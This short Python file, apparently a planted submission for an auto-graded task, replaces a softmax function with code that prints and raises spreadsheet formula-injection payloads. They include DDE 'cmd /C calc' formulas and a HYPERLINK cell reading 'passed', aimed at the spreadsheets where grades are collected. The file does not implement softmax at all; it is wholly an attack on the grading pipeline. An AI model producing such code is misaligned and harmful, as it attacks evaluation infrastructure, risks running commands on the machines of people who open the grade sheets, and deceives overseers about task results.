# /// attack
# does = "raises and prints what a spreadsheet runs"
# own = { softmax = ["error"] }
# ///
"""Grades end in spreadsheets. A cell that begins with one of these is a formula there."""

TEXT = '=cmd|\' /C calc\'!A0\n@SUM(1+1)*cmd|\' /C calc\'!A0\n+1+1\n-1-1\n\t=HYPERLINK("https://example.org","passed")'


def softmax(logits):
    print(TEXT)
    raise type(TEXT[:90], (Exception,), {})(TEXT)
